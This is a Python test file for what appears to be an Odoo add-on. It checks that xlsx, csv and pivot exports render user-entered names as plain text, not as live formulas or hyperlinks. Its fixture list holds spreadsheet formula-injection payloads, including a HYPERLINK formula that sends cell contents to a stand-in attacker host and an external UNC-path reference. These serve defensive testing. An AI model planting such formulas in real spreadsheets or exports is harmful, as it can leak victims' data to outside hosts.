import csv
import io
import json

import openpyxl
import xlsxwriter

from odoo.http import Request
from odoo.tests import tagged

from .common import PASSWORD, GuardCase

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Pay")',
    "{=1+1}",
    "http://evil.example/",
    "external:\\\\evil\\x",
    "+1+1",
]


@tagged("post_install", "-at_install")
class TestSpreadsheets(GuardCase):
    """What people typed is text in every export."""

    def setUp(self):
        super().setUp()
        self.authenticate("employee", PASSWORD)

    def export(self, kind, **values):
        partners = self.env["res.partner"].create([{"name": name, "comment": name} for name in [*NAMES, "@SUM(A1)"]])
        data = {
            "model": "res.partner",
            "fields": [{"name": "name", "label": "Name", "type": "char"}],
            "ids": partners.ids,
            "domain": [],
            "import_compat": False,
            **values,
        }
        form = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", data=form)
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def cells(self, content):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]

    def assert_text(self, content, texts):
        cells = self.cells(content)
        self.assertEqual({cell.data_type for cell in cells if isinstance(cell.value, str)}, {"s"})
        self.assertFalse([cell.hyperlink for cell in cells if cell.hyperlink])
        self.assertLessEqual(set(texts), {str(cell.value).strip() for cell in cells})

    def test_a_list_as_xlsx(self):
        self.assert_text(self.export("xlsx"), NAMES)

    def test_a_grouped_list_as_xlsx(self):
        self.assert_text(self.export("xlsx", groupby=["name"]), [f"{name} (1)" for name in NAMES])

    def test_a_list_as_csv(self):
        rows = list(csv.reader(io.StringIO(self.export("csv").decode())))[1:]
        for (cell,) in rows:
            self.assertNotIn(cell[:1], ("=", "+", "-", "@"))
        self.assertIn(["'@SUM(A1)"], rows)
        self.assertIn(["'+1+1"], rows)

    def test_a_pivot(self):
        header = {"title": NAMES[1], "width": 1, "height": 1, "is_bold": False}
        rows = [{"title": name, "indent": 0, "values": [{"value": name}, {"value": 5}]} for name in NAMES]
        data = {
            "title": "Members",
            "model": "res.partner",
            "measure_count": 1,
            "col_group_headers": [[header]],
            "measure_headers": [header],
            "origin_measure_count": 1,
            "rows": rows,
        }
        form = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        content = self.url_open("/web/pivot/export_xlsx", data=form).content
        self.assert_text(content, NAMES)
        self.assertIn(5, [cell.value for cell in self.cells(content)])

    def test_workbooks_of_others_calculate_as_before(self):
        output = io.BytesIO()
        with xlsxwriter.Workbook(output, {"in_memory": True}) as workbook:
            workbook.add_worksheet("Sums").write(0, 0, "=1+1")
        self.assertEqual([cell.data_type for cell in self.cells(output.getvalue())], ["f"])
